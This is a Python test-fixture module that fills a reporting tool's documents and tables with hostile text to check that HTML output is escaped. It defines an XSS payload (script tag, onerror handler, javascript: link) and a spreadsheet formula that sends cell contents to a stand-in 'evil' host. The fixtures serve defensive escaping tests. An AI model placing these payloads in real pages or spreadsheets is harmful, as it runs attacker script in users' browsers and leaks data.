"""Reviews written by hand: documents of every kind of block, and homes that hold bad intent."""

from html.parser import HTMLParser
from pathlib import Path

from core.cache.store import Store
from core.domain.scope import Scope, from_query
from core.report.document import (
    Cell,
    Column,
    Document,
    Dot,
    Heading,
    Intervals,
    Kind,
    Lines,
    Mark,
    Tone,
    table,
)
from tests.pages.homes import T0, WRITTEN, Tables, WrittenEngine, at, source_row
from tests.pages.written_requests import langfuse_row, observation, score

HOSTILE = (
    """<script>window.ran=1</script><img src=x onerror="window.ran=1">'`|**x**](http://evil)"""
)
FORMULA = '=HYPERLINK("http://evil/"&A1)'
MADE_AT = 1_790_000_000.0
PERIOD: Scope = from_query(WRITTEN)[0]


def every_block(text: str = HOSTILE) -> Document:
    """A document with one of each kind of block, all of whose words are the same text."""
    dots = (
        Dot(text, 0.5, 0.4, 0.6, text),
        Dot("few", 0.1, None, None, text, faint=True),
        Dot("unknown", None, None, None, text),
    )
    cells = [Cell(text), Cell(text, Kind.UNKNOWN), Cell(text, Kind.BAD), Cell("0.5", exact=0.5)]
    columns = [Column(text), Column("b", wide=True), Column("c"), Column("d", numeric=True)]
    return Document(
        title=text,
        subtitle=text,
        blocks=(
            Lines((text,), Tone.BAD),
            Heading(text),
            Lines((text,)),
            table("one", text, columns, [cells], empty=text, constant=((text, text),)),
            table("none", "", columns, [], empty=text),
            Heading(text, level=3, long=True),
            Intervals("dots", text, text, dots, (0.0, 1.0), marks=(Mark(0.5, text),)),
            Intervals("gate", text, text, dots, None, signed=True, ratio=False),
        ),
        about=((text, text),),
        made="made then",
        name="review",
    )


def hostile_tables() -> Tables:
    """An engine, a request, a score, a change and a failing source, all texts of bad intent."""
    labels = {"model": HOSTILE, "namespace": HOSTILE, "cluster": HOSTILE}
    broken = {"prefix_cache_queries": 10.0, "prefix_cache_hits": 20.0}
    tables = WrittenEngine(HOSTILE, per_minute=broken, **labels).tables
    texts = dict.fromkeys(("session_id", "pod", "arm", "template_version"), HOSTILE)
    lever = {
        "lever_id": 1,
        "happened_at": at(T0 + 60),
        "kind": "other",
        "origin": "entered",
        "what": FORMULA,
        "by_whom": HOSTILE,
        "link": f"javascript:{HOSTILE}",
    }
    graded = score(HOSTILE, "observation", of="one", trace_id="trace-one", value=1.0)
    violation = {
        "violation_id": 1,
        "source": "langfuse",
        "kind": "observation",
        "record_id": HOSTILE,
        "rule": HOSTILE,
        "field": HOSTILE,
        "exporter": HOSTILE,
        "happened_at": at(T0 + 60),
        "seen_at": at(T0 + 70),
    }
    words = dict.fromkeys(("title", "detail", "next_step"), HOSTILE)
    failing = source_row("unavailable", checked=T0, **words)
    failing["sources"].append(langfuse_row())
    return (
        tables
        | failing
        | {
            "levers": [lever],
            "observations": [observation("one", model=HOSTILE, **texts)],
            "scores": [graded | {"data_type": "BOOLEAN", "evaluator": HOSTILE}],
            "violations": [violation],
        }
    )


class Seen(HTMLParser):
    """Tags, attributes and texts as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def opened(home: Path) -> Store:
    """The cache of a home."""
    return Store(home / "cache.duckdb")
